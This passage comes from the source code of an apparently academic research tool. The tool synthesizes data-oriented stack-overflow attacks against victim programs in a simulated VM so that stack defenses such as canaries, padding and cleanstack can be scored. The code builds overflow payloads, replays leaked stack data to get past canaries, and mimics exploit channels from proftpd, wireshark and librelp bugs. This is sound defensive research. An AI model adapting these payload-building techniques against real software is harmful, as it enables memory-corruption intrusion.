    def __init__(self, targets: List[Tuple[str, str]]):
        self.targets = list(targets)
        self._watched: Dict[int, Tuple[str, str, int]] = {}  # addr -> (fn, slot, size)
        self._observed: Dict[Tuple[str, str], Set[int]] = {}
        self._slot_cache: Dict[int, Dict[str, object]] = {}
        self._machine: Optional[Machine] = None

    # -- tracer interface --------------------------------------------------

    def attach(self, machine: Machine) -> None:
        self._machine = machine
        machine.memory.set_write_observer(self._on_write)

    def on_start(self, machine, entry) -> None:  # pragma: no cover - trivial
        pass

    def on_call(self, machine, frame) -> None:
        wanted = [slot for fn, slot in self.targets if fn == frame.function.name]
        if not wanted:
            return
        names = self._alloca_names(frame.function)
        for alloca, address in frame.alloca_addresses.items():
            slot = names.get(id(alloca))
            if slot in wanted:
                self._watched[address] = (
                    frame.function.name,
                    slot,
                    alloca.static_size(),
                )
                self._record(address)  # the pre-corruption value counts too

    def on_return(self, machine, frame) -> None:
        for address in list(self._watched):
            function, _, _ = self._watched[address]
            if function == frame.function.name and address in frame.alloca_addresses.values():
                del self._watched[address]

    def on_end(self, machine, result) -> None:  # pragma: no cover - trivial
        pass

    def on_opcode(self, type_name, units) -> None:  # pragma: no cover - trivial
        pass

    # -- observation -------------------------------------------------------

    def _alloca_names(self, function) -> Dict[int, str]:
        cached = self._slot_cache.get(id(function))
        if cached is None:
            descriptor = discover_function(function)
            by_allocation = reach.unique_slot_names(descriptor.allocations)
            cached = {
                id(allocation.alloca): by_allocation[id(allocation)]
                for allocation in descriptor.allocations
                if allocation.alloca is not None
            }
            self._slot_cache[id(function)] = cached
        return cached

    def _on_write(self, address: int, size: int) -> None:
        if not self._watched:
            return
        for slot_address, (function, slot, slot_size) in self._watched.items():
            span = max(slot_size, 8)
            if address < slot_address + span and address + size > slot_address:
                self._record(slot_address)

    def _record(self, slot_address: int) -> None:
        function, slot, _ = self._watched[slot_address]
        try:
            data = self._machine.memory.read_bytes(slot_address, 8)
        except Exception:
            return
        self._observed.setdefault((function, slot), set()).add(
            int.from_bytes(bytes(data), "little")
        )

    def observed(self, function: str, slot: str) -> Set[int]:
        return self._observed.get((function, slot), set())

    def observed_value(self, function: str, slot: str, value_bytes: bytes) -> bool:
        value = int.from_bytes(value_bytes, "little")
        return value in self.observed(function, slot)


class SynthScenario(AttackScenario):
    """A synthesized plan, packaged for the campaign harness."""

    def __init__(
        self,
        facts: ProgramFacts,
        plan: AttackPlan,
        defense_name: str,
        name: Optional[str] = None,
        max_steps: int = ATTACK_MAX_STEPS,
    ):
        self.facts = facts
        self.plan = plan
        self.goal: Goal = plan.goal
        self.defense_name = defense_name
        self.source = facts.source
        self.victim_function = plan.channel.function.name
        self.name = name or f"synth-{self.victim_function}"
        self.description = f"synthesized: {plan.goal.describe()}"
        self.max_steps = max_steps
        self.models: List[GapModel] = gap_models(
            plan.channel.function,
            plan.channel.caller.function if plan.channel.caller else None,
            plan.channel.buffer,
            defense_name,
            module=facts.module,
        )
        self.last_probe: Optional[SlotProbe] = None
        self.last_script_error: Optional[str] = None

    # -- harness interface -------------------------------------------------

    def machine_kwargs(self) -> Dict[str, object]:
        kwargs: Dict[str, object] = {"max_steps": self.max_steps}
        if self.goal.needs_probe():
            self.last_probe = SlotProbe(
                [(self.goal.function, self.goal.slot)]  # type: ignore[attr-defined]
            )
            kwargs["tracer"] = self.last_probe
        return kwargs

    def goal_met(self, result: ExecutionResult) -> bool:
        if self.goal.needs_probe():
            return self.goal.check_probe(self.last_probe)  # type: ignore[attr-defined]
        return self.goal.check_output(bytes(result.output_data))

    def make_input_hook(
        self, build: ProgramBuild, rng: random.Random, attempt: int
    ) -> Callable[[Machine], Optional[bytes]]:
        model = self.models[attempt % len(self.models)]
        address_of = build.make_machine().image.address_of_global
        try:
            script = concretize(self.facts, self.plan, model, address_of)
            self.last_script_error = None
        except BuildError as error:
            self.last_script_error = str(error)
            script = AttackScript(static_chunks=[], idle_chunk=None)
        return make_script_hook(script)


def make_script_hook(
    script: AttackScript,
) -> Callable[[Machine], Optional[bytes]]:
    """Input hook executing an :class:`AttackScript`."""
    state: Dict[str, object] = {"queue": [], "consumed": 0, "phase": "start"}

    def hook(machine: Machine) -> Optional[bytes]:
        queue: List[bytes] = state["queue"]  # type: ignore[assignment]
        if queue:
            return queue.pop(0)
        if state["phase"] == "start":
            state["phase"] = "probe"
            if script.static_chunks is not None:
                state["phase"] = "done"
                queue.extend(script.static_chunks)
                if queue:
                    return queue.pop(0)
                return script.idle_chunk
            if script.probe_chunks:
                queue.extend(script.probe_chunks)
                return queue.pop(0)
        output = bytes(machine.result.output_data)
        leak = output[state["consumed"] :]  # type: ignore[index]
        state["consumed"] = len(output)
        if state["phase"] == "probe":
            state["phase"] = "done"
            chunks = script.build_chunks(leak)
            if chunks:
                queue.extend(chunks)
                return queue.pop(0)
        return script.idle_chunk

    return hook
