"""Plan concretization: symbolic slot writes -> crafted input chunks.

This is the attack compiler's back end.  An :class:`AttackScript` turns
one :class:`~repro.synth.planner.AttackPlan` plus one
:class:`~repro.synth.layouts.GapModel` (the defense-specific layout
hypothesis) into the byte chunks an input hook feeds the VM, speaking
each channel's native protocol:

``direct``          raw overflow payloads with init-value refills
``staged-memcpy``   ``le64(n)`` header + leak-replay payload records
``staged-strcpy``   negative-length records, strcpy stacking, arm-ops
``cursor``          surgical jump/value/clear SAN connections
``copy-loop``       one payload with a self-preserving loop counter

The staged styles replay a disclosure leak as the patch base — the
relative-distance knowledge of the paper's §II-B.  Everything here can
fail (leak too short, value not NUL-free, target beyond a jump): a
failed build simply yields a no-op script and the attempt is spent,
which is precisely how the success-rate metric is meant to charge the
attacker for wrong layout hypotheses.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Tuple

from repro.attacks.librelp import surgical_connection
from repro.attacks.overflow import le64
from repro.attacks.proftpd import stacked_writes
from repro.synth.channels import OverflowChannel
from repro.synth.facts import ProgramFacts
from repro.synth.layouts import GapModel
from repro.synth.planner import AttackPlan, SlotWrite, Strike, WORD_MASK

AddressOf = Callable[[str], int]


def write_word(write: SlotWrite, address_of: AddressOf) -> Tuple[int, int]:
    """(value, mask) of a symbolic write, addresses resolved."""
    value = 0
    mask = 0
    for piece_mask, term in write.pieces:
        value |= term.resolve(address_of) & piece_mask
        mask |= piece_mask
    return value & WORD_MASK, mask & WORD_MASK


def patch_bytes(base: bytearray, gap: int, value: int, mask: int) -> None:
    """Merge a masked 64-bit write into ``base`` at byte offset ``gap``."""
    for index in range(8):
        position = gap + index
        if position >= len(base):
            break
        byte_mask = (mask >> (8 * index)) & 0xFF
        if byte_mask == 0:
            continue
        byte_value = (value >> (8 * index)) & 0xFF
        base[position] = (base[position] & ~byte_mask) | (byte_value & byte_mask)


class BuildError(Exception):
    """This plan cannot be expressed on this channel/model/leak."""


@dataclass
class AttackScript:
    """The input-hook program for one (plan, gap model) pair."""

    probe_chunks: List[bytes] = field(default_factory=list)
    idle_chunk: Optional[bytes] = None
    #: leak (bytes since probe) -> strike + wind-down chunks, or None
    build_chunks: Callable[[bytes], Optional[List[bytes]]] = lambda leak: []
    #: fully static scripts skip the probe/leak round-trip
    static_chunks: Optional[List[bytes]] = None


def concretize(
    facts: ProgramFacts,
    plan: AttackPlan,
    model: GapModel,
    address_of: AddressOf,
) -> AttackScript:
    """Compile ``plan`` into an input script under ``model``'s layout."""
    channel = plan.channel
    builder = _BUILDERS.get(channel.style)
    if builder is None:
        raise BuildError(f"no concretizer for style '{channel.style}'")
    return builder(facts, plan, model, address_of)


# --------------------------------------------------------------------------
# shared helpers
# --------------------------------------------------------------------------


def _resolved_writes(
    plan: AttackPlan, model: GapModel, address_of: AddressOf
) -> List[List[Tuple[SlotWrite, int, int, int]]]:
    """Per strike: (write, gap, value, mask), gaps from the model."""
    out = []
    for strike in plan.strikes:
        resolved = []
        for write in strike.writes:
            try:
                gap = model.gap(write.frame, write.slot)
            except KeyError as exc:
                raise BuildError(str(exc))
            if gap < 0:
                raise BuildError(f"{write.slot} below the buffer")
            value, mask = write_word(write, address_of)
            resolved.append((write, gap, value, mask))
        out.append(resolved)
    return out


def _extent(resolved) -> int:
    return max((gap + 8 for strikes in resolved for _, gap, _, _ in strikes), default=0)


def _init_fill(
    facts: ProgramFacts,
    channel: OverflowChannel,
    model: GapModel,
    address_of: AddressOf,
    base: bytearray,
) -> None:
    """Refill victim slots in range with their provable initial values."""
    inits = facts.initial_values(channel.function)
    for name, gap, size in model.victim_slots_between(0, len(base)):
        init = inits.get(name)
        if init is None or gap < 0:
            continue
        if init.kind == "const":
            value = init.value
        else:
            value = address_of(init.value)
        data = (value & ((1 << (8 * min(size, 8))) - 1)).to_bytes(
            min(size, 8), "little"
        )
        base[gap : gap + len(data)] = data[: max(0, len(base) - gap)]


# --------------------------------------------------------------------------
# direct: raw overflow payloads (listing1)
# --------------------------------------------------------------------------


def _build_direct(
    facts: ProgramFacts,
    plan: AttackPlan,
    model: GapModel,
    address_of: AddressOf,
) -> AttackScript:
    channel = plan.channel
    resolved = _resolved_writes(plan, model, address_of)
    crossing = any(
        write.frame == "caller" for strike in resolved for write, _, _, _ in strike
    )
    if crossing and channel.echo is not None:
        return _build_direct_leak(facts, plan, model, address_of, resolved)
    extent = _extent(resolved)
    if extent > channel.write_limit:
        raise BuildError("plan exceeds the channel's write budget")
    chunks: List[bytes] = []
    for strike in resolved:
        payload = bytearray(extent)
        _init_fill(facts, channel, model, address_of, payload)
        for _, gap, value, mask in strike:
            patch_bytes(payload, gap, value, mask)
        chunks.append(bytes(payload))
    return AttackScript(static_chunks=chunks, idle_chunk=b"x")


def _find_marker(leak: bytes, marker: int) -> Optional[int]:
    """Offset of ``le64(marker)`` in the leak, if it occurs exactly once."""
    needle = le64(marker & WORD_MASK)
    first = leak.find(needle)
    if first < 0 or leak.find(needle, first + 1) >= 0:
        return None
    return first


def _build_direct_leak(
    facts: ProgramFacts,
    plan: AttackPlan,
    model: GapModel,
    address_of: AddressOf,
    resolved: List[List[Tuple[SlotWrite, int, int, int]]],
) -> AttackScript:
    """Frame-crossing direct overflow, echo-guided (the fuzz-victim shape).

    A one-byte probe makes the victim echo its own stack; the strike
    replays that disclosure verbatim (so cookies, canaries and bystander
    slots round-trip) and patches only the planned slots.  Caller slots
    whose initial value is a distinctive constant are *located* in the
    leak by that marker — which is what defeats a compile-time
    permutation but not a per-invocation one, since the next call has
    already re-dealt the frame by the time the strike lands.
    """
    channel = plan.channel
    caller = channel.caller.function if channel.caller is not None else None
    inits = facts.initial_values(caller) if caller is not None else {}

    def located_gap(write: SlotWrite, model_gap: int, leak: bytes) -> int:
        if write.frame != "caller":
            return model_gap
        init = inits.get(write.slot)
        if init is None or init.kind != "const" or not init.value:
            return model_gap
        found = _find_marker(leak, init.value)
        return found if found is not None else model_gap

    def build(leak: bytes) -> Optional[List[bytes]]:
        placed = [
            [(write, located_gap(write, gap, leak), value, mask) for write, gap, value, mask in strike]
            for strike in resolved
        ]
        extent = _extent(placed)
        if extent > channel.write_limit or len(leak) < extent:
            return None
        chunks: List[bytes] = []
        applied: List[Tuple[int, int, int]] = []
        for strike in placed:
            payload = bytearray(leak[:extent])
            for gap, value, mask in applied:
                patch_bytes(payload, gap, value, mask)
            for _, gap, value, mask in strike:
                patch_bytes(payload, gap, value, mask)
                applied.append((gap, value, mask))
            chunks.append(bytes(payload))
        return chunks

    # empty idle input reads 0 bytes, so the victim's loop winds down
    return AttackScript(
        probe_chunks=[b"\x01"], idle_chunk=b"", build_chunks=build
    )


# --------------------------------------------------------------------------
# staged-memcpy: length header + payload records (wireshark)
# --------------------------------------------------------------------------


def _build_memcpy(
    facts: ProgramFacts,
    plan: AttackPlan,
    model: GapModel,
    address_of: AddressOf,
) -> AttackScript:
    channel = plan.channel
    resolved = _resolved_writes(plan, model, address_of)
    extent = _extent(resolved)
    if extent > channel.write_limit:
        raise BuildError("plan exceeds the channel's write budget")

    def build(leak: bytes) -> Optional[List[bytes]]:
        if len(leak) < extent:
            return None
        chunks: List[bytes] = []
        applied: List[Tuple[int, int, int]] = []
        for strike in resolved:
            payload = bytearray(leak[:extent])
            # corruption accumulates: replaying a stale leak must not
            # undo the previous strikes' writes
            for gap, value, mask in applied:
                patch_bytes(payload, gap, value, mask)
            for _, gap, value, mask in strike:
                patch_bytes(payload, gap, value, mask)
                applied.append((gap, value, mask))
            chunks.extend([le64(len(payload)), bytes(payload)])
        chunks.append(le64(0))  # benign empty record; export path follows
        return chunks

    return AttackScript(
        probe_chunks=[le64(16), b"\x10" * 16],
        idle_chunk=le64(0),
        build_chunks=build,
    )


# --------------------------------------------------------------------------
# staged-strcpy: stacked string writes + arm-op records (proftpd)
# --------------------------------------------------------------------------


def _build_strcpy(
    facts: ProgramFacts,
    plan: AttackPlan,
    model: GapModel,
    address_of: AddressOf,
) -> AttackScript:
    channel = plan.channel
    resolved = _resolved_writes(plan, model, address_of)
    extent = _extent(resolved)
    if extent > channel.write_limit:
        raise BuildError("plan exceeds the channel's write budget")
    buffer_size = channel.buffer_size

    def emit_write(records: List[bytes], payload: bytes) -> None:
        records.append(le64(-1))  # the CVE: negative length = unbounded
        records.append(payload + b"\x00")

    def patched_image(
        leak: bytes, patches: List[Tuple[int, int, int]]
    ) -> Optional[bytes]:
        end = max(gap + 8 for gap, _, _ in patches)
        while end < len(leak) and leak[end] != 0:
            end += 1
        if end >= len(leak):
            return None
        image = bytearray(leak[: end + 1])
        image[end] = 0
        for index in range(min(buffer_size, len(image) - 1)):
            image[index] = 0x6A  # dead buffer: NUL-free junk
        for gap, value, mask in patches:
            patch_bytes(image, gap, value, mask)
        return bytes(image)

    def arm_op(
        leak: bytes, gap: int, value: int, mask: int
    ) -> Optional[bytes]:
        # One write ending right past the trigger slot: its NUL lands on
        # the byte above, the gadget fires at the end of this record.
        if len(leak) < gap + 8:
            return None
        payload = bytearray(leak[: gap + 8])
        for index in range(min(buffer_size, len(payload))):
            payload[index] = 0x6A
        for index in range(buffer_size, gap):
            if payload[index] == 0:
                payload[index] = 1  # should not occur: cookie replay
        patch_bytes(payload, gap, value, mask)
        if 0 in payload[: gap + 8]:
            return None  # the copy would stop at the embedded NUL
        return bytes(payload)

    def build(leak: bytes) -> Optional[List[bytes]]:
        records: List[bytes] = []
        for strike in resolved:
            staged = [
                (gap, value, mask)
                for write, gap, value, mask in strike
                if not write.trigger
            ]
            triggers = [
                (gap, value, mask)
                for write, gap, value, mask in strike
                if write.trigger
            ]
            if staged:
                # the arming replay covers [0, trigger); staged operands
                # must live above it or the replay would undo them
                lowest_trigger = min((g for g, _, _ in triggers), default=None)
                if lowest_trigger is not None and any(
                    gap < lowest_trigger + 8 for gap, _, _ in staged
                ):
                    return None
                image = patched_image(leak, staged)
                if image is None:
                    return None
                for write in stacked_writes(image):
                    if len(write) > channel.chunk_limit - 1:
                        return None
                    emit_write(records, write)
            for gap, value, mask in sorted(triggers):
                payload = arm_op(leak, gap, value, mask)
                if payload is None:
                    return None
                emit_write(records, payload)
        records.append(le64(0))  # QUIT: ends the command loop
        return records

    return AttackScript(
        probe_chunks=[le64(16), b"probe"],
        idle_chunk=le64(0),
        build_chunks=build,
    )


# --------------------------------------------------------------------------
# cursor: surgical SAN connections (librelp)
# --------------------------------------------------------------------------


def _cursor_connections(
    gap: int, value: int, mask: int, jump_limit: int, buffer_size: int
) -> List[List[bytes]]:
    """Connections writing a masked word at ``gap`` via cursor jumps.

    Value bytes are written as NUL-free runs (each run's terminator
    clears the byte just past it); remaining constrained-zero bytes get
    explicit clearing runs, emitted top-down so each placeholder byte is
    cleared by the next terminator below it.
    """
    desired: List[Optional[int]] = []
    for index in range(8):
        byte_mask = (mask >> (8 * index)) & 0xFF
        if byte_mask == 0xFF:
            desired.append((value >> (8 * index)) & 0xFF)
        elif byte_mask == 0:
            desired.append(None)
        else:
            raise BuildError("sub-byte masks not expressible as SAN writes")

    runs: List[Tuple[int, bytes]] = []
    start: Optional[int] = None
    content = bytearray()
    for index in range(9):
        byte = desired[index] if index < 8 else None
        if byte:
            if start is None:
                start = index
            content.append(byte)
        else:
            if start is not None:
                runs.append((start, bytes(content)))
                start, content = None, bytearray()

    cleared = {start + len(run) for start, run in runs}
    connections: List[List[bytes]] = []
    for index in range(7, -1, -1):  # top-down: placeholders clear below
        if desired[index] == 0 and index not in cleared:
            target = gap + index - 1
            if not buffer_size < target <= jump_limit:
                raise BuildError("zero-clear target beyond a jump's reach")
            connections.append(surgical_connection(target, b"\x01"))
            cleared.add(index)
    for start, run in runs:  # bottom-up: later writes fix placeholders
        target = gap + start
        if not buffer_size < target <= jump_limit:
            raise BuildError("write target beyond a single jump's reach")
        connections.append(surgical_connection(target, run))
    return connections


def _build_cursor(
    facts: ProgramFacts,
    plan: AttackPlan,
    model: GapModel,
    address_of: AddressOf,
) -> AttackScript:
    channel = plan.channel
    resolved = _resolved_writes(plan, model, address_of)
    jump_limit = channel.chunk_limit
    chunks: List[bytes] = []
    for strike in resolved:
        ordered = sorted(
            strike, key=lambda item: (item[0].trigger, item[1])
        )  # operands (ascending) first, triggers last
        for write, gap, value, mask in ordered:
            for connection in _cursor_connections(
                gap, value, mask, jump_limit, channel.buffer_size
            ):
                chunks.extend(connection)
    chunks.extend([b"done", b"", b""])  # flush round, then disconnect
    return AttackScript(static_chunks=chunks, idle_chunk=b"")


# --------------------------------------------------------------------------
# copy-loop: one payload with a self-preserving counter (logger)
# --------------------------------------------------------------------------


def _build_copy_loop(
    facts: ProgramFacts,
    plan: AttackPlan,
    model: GapModel,
    address_of: AddressOf,
) -> AttackScript:
    channel = plan.channel
    resolved = _resolved_writes(plan, model, address_of)
    extent = _extent(resolved)
    if extent > channel.write_limit:
        raise BuildError("plan exceeds the channel's write budget")
    payload = bytearray(extent)
    _init_fill(facts, channel, model, address_of, payload)
    # the copy writes one byte per iteration; when it reaches its own
    # counter slot, each written byte must leave the counter equal to
    # the index just written, or the loop derails
    if channel.counter_slot is not None:
        try:
            counter_gap = model.victim_gap(channel.counter_slot)
        except KeyError:
            counter_gap = None
        if counter_gap is not None and 0 <= counter_gap < extent:
            for index in range(8):
                position = counter_gap + index
                if position < extent:
                    payload[position] = ((counter_gap + index) >> (8 * index)) & 0xFF
    # the bound slot holds the input length: rewrite it with itself
    if channel.bound_slot is not None:
        try:
            bound_gap = model.victim_gap(channel.bound_slot)
        except KeyError:
            bound_gap = None
        if bound_gap is not None and 0 <= bound_gap < extent:
            patch_bytes(payload, bound_gap, extent, WORD_MASK)
    for strike in resolved:
        for _, gap, value, mask in strike:
            patch_bytes(payload, gap, value, mask)
    return AttackScript(static_chunks=[bytes(payload)], idle_chunk=None)


_BUILDERS = {
    "direct": _build_direct,
    "staged-memcpy": _build_memcpy,
    "staged-strcpy": _build_strcpy,
    "cursor": _build_cursor,
    "copy-loop": _build_copy_loop,
}
