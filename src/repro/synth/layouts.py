"""Defense-aware payload-coordinate models for the concretizer.

The planner emits *symbolic* writes ("caller slot ``gate``"); turning
them into payload byte offsets requires a concrete two-frame layout,
which depends on the deployed defense:

``none`` / ``aslr`` / ``static-permute`` / ``smokestack``
    the reference declaration-order layout (for the randomizing schemes
    this is the attacker's blind best guess — exactly what makes their
    success rates diverge);
``canary``
    the same layout with the canary slot below each frame's cookie;
``padding``
    the reference layout shifted by the Forrest pad — one hypothesis
    per distinct ``(victim pad, caller pad)`` gap signature, cycled by
    attempt index (the paper's §II-C brute-force bypass);
``cleanstack``
    the attacker's region-local view: the buffer's own stack region
    (unclean if the buffer is relocated, the thinned main stack
    otherwise) with exact intra-region distances — cross-region targets
    simply do not exist in the hypothesis, which is the defense working.

All positions are *payload coordinates*: byte 0 is the overflow
buffer's first byte, increasing toward the frame top and onward into
the caller's frame.
"""

from __future__ import annotations

from typing import Dict, List, NamedTuple, Optional, Tuple

from repro.analysis import reach
from repro.core.allocations import StackAllocation, discover_function
from repro.defenses.padding import MIN_FRAME_SIZE, PAD_CHOICES, PAD_SLOT_NAME
from repro.ir.module import Function


class GapModel(NamedTuple):
    """Payload-coordinate positions for one (defense, hypothesis) pair."""

    victim: reach.FrameLayout
    caller: Optional[reach.FrameLayout]
    caller_height: int
    buffer_lo: int
    has_canary: bool

    def victim_gap(self, slot: str) -> int:
        return self.victim.slot(slot).lo - self.buffer_lo

    def caller_gap(self, slot: str) -> int:
        if self.caller is None:
            raise KeyError("channel has no caller frame")
        return self.caller.slot(slot).lo + self.caller_height - self.buffer_lo

    def gap(self, frame: str, slot: str) -> int:
        return self.victim_gap(slot) if frame == "victim" else self.caller_gap(slot)

    @property
    def cookie_gap(self) -> int:
        return -8 - self.buffer_lo

    @property
    def canary_gap(self) -> Optional[int]:
        return -16 - self.buffer_lo if self.has_canary else None

    def victim_slots_between(self, lo: int, hi: int) -> List[Tuple[str, int, int]]:
        """Named victim slots overlapping payload range [lo, hi)."""
        out = []
        for slot in self.victim.slots:
            if slot.synthetic:
                continue
            gap = slot.lo - self.buffer_lo
            if gap < hi and gap + slot.size > lo:
                out.append((slot.name, gap, slot.size))
        return out


def _padded_layout(
    function: Function, pad: int, *, canary: bool
) -> reach.FrameLayout:
    """Reference layout with a Forrest pad as the first allocation."""
    descriptor = discover_function(function)
    allocations = list(descriptor.allocations)
    if pad and descriptor.total_unpermuted_size() > MIN_FRAME_SIZE:
        allocations = [StackAllocation(PAD_SLOT_NAME, pad, 8)] + allocations
    return reach.FrameLayout(
        function.name,
        reach.allocation_slots(allocations, canary=canary),
        has_canary=canary,
    )


def _model(
    victim: Function,
    caller: Optional[Function],
    buffer: str,
    *,
    canary: bool,
    victim_pad: int = 0,
    caller_pad: int = 0,
) -> GapModel:
    victim_layout = _padded_layout(victim, victim_pad, canary=canary)
    caller_layout = None
    height = 0
    if caller is not None:
        caller_layout = _padded_layout(caller, caller_pad, canary=canary)
        height = reach.frame_height(caller_layout)
    return GapModel(
        victim_layout,
        caller_layout,
        height,
        victim_layout.slot(buffer).lo,
        canary,
    )


def _cleanstack_model(
    victim: Function,
    caller: Optional[Function],
    buffer: str,
    module,
) -> GapModel:
    """Region-local gap model for the taint-partitioned dual stack.

    If the buffer was relocated to the unclean stack, the reachable
    world is the unclean region: the victim's unclean slots (offsets
    relative to the region top), stacked directly below the caller's
    unclean slice — contiguous, because the unclean-stack pointer
    descends per frame just like the main one.  Otherwise the buffer
    lives on the thinned main stack and the model is the partition-aware
    main layout.  Either way, a planned write whose target sits in the
    *other* region has no coordinate here and fails to build — which is
    the defense's guarantee expressed in payload coordinates.
    """
    v_main, v_unsafe = reach.cleanstack_region_slots(victim, module)
    buffer_unsafe = any(slot.name == buffer for slot in v_unsafe)
    v_slots = v_unsafe if buffer_unsafe else v_main
    victim_layout = reach.FrameLayout(victim.name, v_slots, has_canary=False)
    caller_layout = None
    height = 0
    if caller is not None:
        c_main, c_unsafe = reach.cleanstack_region_slots(caller, module)
        c_slots = c_unsafe if buffer_unsafe else c_main
        caller_layout = reach.FrameLayout(
            caller.name, c_slots, has_canary=False
        )
        if buffer_unsafe:
            # Unclean slices carry no cookie/canary band; the region
            # height is just the slots' 16-aligned extent.
            lows = [slot.lo for slot in c_slots]
            height = -reach._align_down(min(lows), 16) if lows else 0
        else:
            height = reach.frame_height(caller_layout)
    return GapModel(
        victim_layout,
        caller_layout,
        height,
        victim_layout.slot(buffer).lo,
        False,
    )


def gap_models(
    victim: Function,
    caller: Optional[Function],
    buffer: str,
    defense_name: str,
    module=None,
) -> List[GapModel]:
    """Hypothesis list for one deployed defense (cycled by attempt)."""
    canary = defense_name == "canary"
    if defense_name == "cleanstack":
        return [_cleanstack_model(victim, caller, buffer, module)]
    if defense_name != "padding":
        return [_model(victim, caller, buffer, canary=canary)]
    # Padding: one hypothesis per distinct gap signature.  The caller's
    # pad mostly cancels (its frame grows as its slots sink) but 16-byte
    # frame alignment leaves a residue, so enumerate both pads and
    # deduplicate on the positions that matter.
    models: List[GapModel] = []
    seen: Dict[Tuple[int, ...], bool] = {}
    caller_pads: Tuple[int, ...] = PAD_CHOICES if caller is not None else (0,)
    for victim_pad in PAD_CHOICES:
        for caller_pad in caller_pads:
            model = _model(
                victim,
                caller,
                buffer,
                canary=canary,
                victim_pad=victim_pad,
                caller_pad=caller_pad,
            )
            signature = [model.cookie_gap]
            if model.caller is not None:
                signature.extend(
                    slot.lo + model.caller_height - model.buffer_lo
                    for slot in model.caller.slots
                )
            key = tuple(signature)
            if key not in seen:
                seen[key] = True
                models.append(model)
    return models
