"""Goal predicates for synthesized DOP attacks.

A goal is what the attack *compiler* is asked to achieve, expressed over
program state the experimenter can observe:

``exfil NEEDLE``
    The byte string ``NEEDLE`` appears on the program's output channel.
    Checked from ``ExecutionResult.output_data`` alone — the same
    ground truth the canned attacks use.

``corrupt FN.SLOT = VALUE``
    The stack slot ``SLOT`` of function ``FN`` holds ``VALUE`` (a 64-bit
    little-endian word) at some point during the run.  Checking this
    needs ground truth the *attacker* never gets: a
    :class:`repro.synth.scenario.SlotProbe` watches the deployed
    machine's writes.  The planner, in contrast, works only from static
    facts — the probe is the experimenter's instrument, mirroring the
    crosscheck.py discipline of validating predictions against the VM.

The distinction matters for the success-rate metric: exfil goals are
defense-agnostic observations (the program either emitted the secret or
it did not), which is why the fuzz-victim cohort uses them exclusively.
"""

from __future__ import annotations

from typing import Optional

from repro.attacks.overflow import le64


class Goal:
    """Abstract goal predicate."""

    kind = "abstract"

    def describe(self) -> str:
        raise NotImplementedError

    def check_output(self, output: bytes) -> bool:
        """Is the goal visible on the program's output channel?"""
        return False

    def needs_probe(self) -> bool:
        """Does ground-truth checking require a slot probe?"""
        return False


class ExfilGoal(Goal):
    """``needle`` appears in the program's output."""

    kind = "exfil"

    def __init__(self, needle: bytes):
        if not needle:
            raise ValueError("exfil goal needs a non-empty needle")
        self.needle = bytes(needle)

    def describe(self) -> str:
        shown = self.needle[:24]
        suffix = "..." if len(self.needle) > 24 else ""
        return f"exfil {shown!r}{suffix}"

    def check_output(self, output: bytes) -> bool:
        return self.needle in output

    def __repr__(self) -> str:
        return f"ExfilGoal({self.needle[:16]!r}...)"


class CorruptGoal(Goal):
    """Slot ``slot`` of ``function`` takes the 64-bit value ``value``."""

    kind = "corrupt"

    def __init__(self, function: str, slot: str, value: int):
        self.function = function
        self.slot = slot
        self.value = value & ((1 << 64) - 1)

    @property
    def value_bytes(self) -> bytes:
        return le64(self.value)

    def describe(self) -> str:
        return f"corrupt {self.function}.{self.slot} = {hex(self.value)}"

    def needs_probe(self) -> bool:
        return True

    def check_probe(self, probe) -> bool:
        """Did the probe observe the slot holding the goal value?"""
        return probe is not None and probe.observed_value(
            self.function, self.slot, self.value_bytes
        )

    def __repr__(self) -> str:
        return f"CorruptGoal({self.function}.{self.slot}={hex(self.value)})"


def parse_goal(text: str) -> Goal:
    """Parse the CLI goal grammar.

    ``exfil:HEXBYTES`` / ``exfil-text:STRING`` /
    ``corrupt:FN.SLOT=INT`` (int accepts 0x prefixes).
    """
    if text.startswith("exfil:"):
        return ExfilGoal(bytes.fromhex(text[len("exfil:"):]))
    if text.startswith("exfil-text:"):
        return ExfilGoal(text[len("exfil-text:"):].encode())
    if text.startswith("corrupt:"):
        spec = text[len("corrupt:"):]
        place, _, value = spec.partition("=")
        function, _, slot = place.partition(".")
        if not (function and slot and value):
            raise ValueError(f"bad corrupt goal '{text}'")
        return CorruptGoal(function, slot, int(value, 0))
    raise ValueError(f"unknown goal '{text}'")


def goal_for_needle(needle: bytes) -> ExfilGoal:
    return ExfilGoal(needle)


def describe_optional(goal: Optional[Goal]) -> str:
    return goal.describe() if goal is not None else "(none)"
