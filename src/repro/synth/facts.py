"""Attacker-knowledge fact base for the attack compiler.

``ProgramFacts`` bundles everything the planner consults about a victim
program, derived purely from the *reference* (unhardened) module — the
attacker's own copy of the binary, per the paper's threat model.  Facts
are symbolic: global values are referenced by name and resolved to
concrete addresses only at concretization time against the deployed
build's image, so the same plan works across ASLR-relocated instances.

The gadget census comes from
:func:`repro.analysis.taintflow.collect_gadget_sinks` run under the
flow-insensitive corruption-model predicate — the same walk behind both
``analyze`` sink reporting and ``gadgets.py``, so the planner cannot see
gadgets the analyses would miss (or vice versa).
"""

from __future__ import annotations

from typing import Dict, List, NamedTuple, Optional, Tuple

from repro.analysis import reach
from repro.analysis.taintflow import (
    INPUT_BUILTINS,
    SinkHit,
    TaintAnalysis,
    collect_gadget_sinks,
)
from repro.core.allocations import discover_function
from repro.core.pipeline import compile_source
from repro.ir.instructions import Alloca, Call, Cast, Store
from repro.ir.module import Function, Module
from repro.ir.values import Constant, GlobalVariable
from repro.opt.cfg import DominatorTree, reachable_blocks


class NeedleLocation(NamedTuple):
    """Where a byte string lives in the loaded image (symbolically)."""

    global_name: str
    offset: int  # byte offset of the needle inside the global's image


class InitValue(NamedTuple):
    """A slot's pre-input value, provable from entry-dominating stores.

    ``kind`` is ``"const"`` (``value`` is the integer) or
    ``"global-addr"`` (``value`` is the global's name; the concretizer
    resolves it against the deployed image).
    """

    kind: str
    value: object


class CallerSite(NamedTuple):
    function: Function
    call: Call


class ProgramFacts:
    """Static facts about one victim program."""

    def __init__(self, source: str, name: str = "victim"):
        self.source = source
        self.module: Module = compile_source(source, name)
        self._taints: Dict[str, TaintAnalysis] = {}
        self._sinks: Dict[str, List[SinkHit]] = {}
        self._layouts: Dict[Tuple[str, bool], reach.FrameLayout] = {}
        self._slot_names: Dict[str, Dict[int, str]] = {}
        self._callers: Optional[Dict[str, List[CallerSite]]] = None
        self._init_values: Dict[str, Dict[str, InitValue]] = {}
        self._escaped: Dict[str, set] = {}
        self._safety = None

    # ---------------------------------------------------------------- IR

    def function(self, name: str) -> Function:
        return self.module.functions[name]

    def functions(self) -> List[Function]:
